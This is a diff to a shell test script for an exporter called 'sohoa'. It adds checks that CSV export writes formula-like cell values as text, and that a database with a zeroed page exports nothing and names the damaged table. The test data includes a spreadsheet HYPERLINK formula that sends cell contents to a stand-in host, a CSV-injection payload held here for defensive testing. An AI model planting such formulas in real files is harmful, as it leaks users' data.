@@ -5,7 +5,8 @@
 # partial dates kept as text), every PDF (a PDF whose image is the entry's crop), the
 # manifest's sha256; the column doc against the code; a missing or unreadable page image
 # (exit 2, rows noted, the other PDFs there); reruns byte-identical; foreign directories
-# refused.
+# refused; CSV values that a spreadsheet would run as formulas written as text; a damaged
+# store (a zeroed page of the fields table) exports nothing and names the table.
 . "$(dirname "$0")/lib.sh"
 
 S="$SOHOA_SOURCE"
@@ -356,4 +357,90 @@ check "$B2" "$WORK/out/broken" default "$gone" "$bad"
 expect_eq "manifest: entries without PDF" \
 	"$(python3 -c 'import json,sys; print(json.load(open(sys.argv[1]))["missing_pdfs"])' \
 		"$WORK/out/broken/manifest.json")" "$noted"
+# --- CSV: a value a spreadsheet would run as a formula is written as text ----------------------
+B3="$WORK/formula"
+cp -r "$B" "$B3"
+rid=$(sql "$B3" "SELECT min(id) FROM records")
+i=0
+for v in '=HYPERLINK("http://x.example/?"&A1,"click")' '+1+2' '-2+3' '@SUM(A1:A9)' \
+	"$(printf '\tTAB')"; do
+	i=$((i + 1))
+	name=$(sql "$B3" "SELECT name FROM fields WHERE record_id = $rid ORDER BY name
+		LIMIT 1 OFFSET $i")
+	python3 - "$B3/batch.db" "$rid" "$name" "$v" <<'PY'
+import sqlite3, sys
+c = sqlite3.connect(sys.argv[1])
+c.execute("UPDATE fields SET value = ? WHERE record_id = ? AND name = ?",
+          (sys.argv[4], int(sys.argv[2]), sys.argv[3]))
+c.commit()
+PY
+done
+run_status sohoa export --batch "$B3" --format csv --out "$WORK/out/formula.csv"
+expect_eq "csv with formulas exit" "$status" 0
+python3 - "$WORK/out/formula.csv" "$rid" <<'PY' || fail "a CSV cell could run as a formula"
+import csv, sys
+rows = list(csv.reader(open(sys.argv[1], newline="", encoding="utf-8")))
+bad, seen = [], 0
+for row in rows:
+    for cell in row:
+        if cell[:1] in ("=", "+", "-", "@", "\t", "\r"):
+            bad.append(cell)
+        if cell.startswith("'") and cell[1:2] in ("=", "+", "-", "@", "\t"):
+            seen += 1
+print(f"csv: {seen} formula-like values written as text, {len(bad)} left live")
+for b in bad:
+    print("live:", repr(b), file=sys.stderr)
+expected = ["'=HYPERLINK(\"http://x.example/?\"&A1,\"click\")", "'+1+2", "'-2+3", "'@SUM(A1:A9)",
+            "'\tTAB"]
+missing = [e for e in expected if not any(e in row for row in rows)]
+for m in missing:
+    print("not found as text:", repr(m), file=sys.stderr)
+sys.exit(1 if bad or missing else 0)
+PY
+checks=$((checks + 1))
+# JSON lines keep the value as it is (no spreadsheet reads them)
+run_status sohoa export --batch "$B3" --format jsonl --out "$WORK/out/formula.jsonl"
+expect_eq "jsonl with formulas exit" "$status" 0
+checks=$((checks + 1))
+grep -qF '"value":"=HYPERLINK(' "$WORK/out/formula.jsonl" || fail "jsonl changed the value"
+
+# --- a damaged store: nothing is exported, the damage is named --------------------------------
+for cut in 0 1024; do
+	B4="$WORK/damaged-$cut"
+	rm -rf "$B4"
+	cp -r "$B" "$B4"
+	sqlite3 "$B4/batch.db" "PRAGMA wal_checkpoint(TRUNCATE)" >/dev/null
+	page=$(python3 - "$B4/batch.db" <<'PY'
+import sqlite3, sys
+c = sqlite3.connect(sys.argv[1])
+# a leaf page of the fields table in the middle of the tree
+pages = [p for (p,) in c.execute(
+    "SELECT pageno FROM dbstat WHERE name = 'fields' AND pagetype = 'leaf' ORDER BY pageno")]
+print(pages[len(pages) // 2])
+PY
+)
+	size=$(sqlite3 "$B4/batch.db" "PRAGMA page_size")
+	# all of the page, or all but its header and cell pointers (rows then read as absent)
+	dd if=/dev/zero of="$B4/batch.db" bs=1 seek=$(((page - 1) * size + cut)) \
+		count=$((size - cut)) conv=notrunc status=none
+	for fmt in jsonl csv; do
+		rm -f "$WORK/out/damaged.$fmt"
+		run_status sohoa export --batch "$B4" --format "$fmt" --out "$WORK/out/damaged.$fmt"
+		expect_eq "damaged store ($cut, $fmt) exit" "$status" 3
+		expect_match "damaged store ($cut, $fmt) names the table" "$(cat "$WORK/stderr")" \
+			"damaged in table 'fields' \\(page $page\\)"
+		[ ! -e "$WORK/out/damaged.$fmt" ] || fail "a damaged store's $fmt export was written"
+		# to stdout: nothing at all, not a header or part of the records
+		sohoa export --batch "$B4" --format "$fmt" >"$WORK/out/damaged.stdout" 2>/dev/null &&
+			fail "export of a damaged store to stdout succeeded"
+		expect_eq "damaged store ($cut, $fmt) to stdout writes nothing" \
+			"$(wc -c <"$WORK/out/damaged.stdout")" 0
+	done
+	run_status sohoa export --batch "$B4" --format moj --out "$WORK/out/damaged-pkg"
+	expect_eq "damaged store ($cut, moj) exit" "$status" 3
+	[ ! -e "$WORK/out/damaged-pkg" ] || fail "a damaged store's package was written"
+	run_status sohoa review show --batch "$B4" "$rid"
+	expect_eq "damaged store ($cut) review show exit" "$status" 3
+	expect_match "review show names the damage" "$(cat "$WORK/stderr")" "is damaged"
+done
 done_ok
